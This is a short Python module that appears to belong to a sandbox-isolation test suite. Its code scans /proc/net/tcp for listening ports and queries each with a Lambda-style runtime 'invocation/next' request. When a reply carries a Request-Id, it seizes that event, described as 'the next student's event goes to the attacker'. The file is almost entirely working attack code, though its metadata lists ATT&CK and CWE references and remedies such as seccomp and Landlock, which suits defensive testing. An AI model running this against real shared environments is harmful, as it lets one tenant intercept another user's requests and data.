# SPDX-License-Identifier: MIT
"""Goal:  the next request, where nobody says at which port to ask.
Means: /proc/net/tcp lists who listens in this network namespace, whatever the environment says.
       Each is asked for the next event; the one that answers with a request's id is the interface.
"""

import socket

from attack import DONE, attempting, denied, loot

ASK = b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
LISTEN, MOST = "0A", 20


def listeners():
    with open("/proc/net/tcp") as table:
        rows = [line.split() for line in table][1:]
    return sorted({int(row[1].partition(":")[2], 16) for row in rows if row[3] == LISTEN})[:MOST]


def next_event(port):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as api:
            api.sendall(ASK)
            return api.recv(4096)
    except OSError:
        return b""


def run(brief):
    attempting()
    try:
        ports = listeners()
    except OSError as why:
        return denied("/proc/net/tcp", why)
    for port in reversed(ports):
        event = next_event(port)
        if b"Request-Id" in event:
            loot(event)
            return DONE
    return denied("connect", f"{len(ports)} ports listen, and none is the interface")


ATTACK = {
    "effect": "the next student's event goes to the attacker",
    "means": "the port from /proc/net/tcp: nothing is known beforehand",
    "oracle": "api:next",
    "id": "LAPI-05",
    "attack_id": "T1049, T1557, CWE-306",
    "remedy": "seccomp without socket, or Landlock without connect_tcp; a network namespace",
    "refs": ["proc_net(5)"],
    "run": run,
}
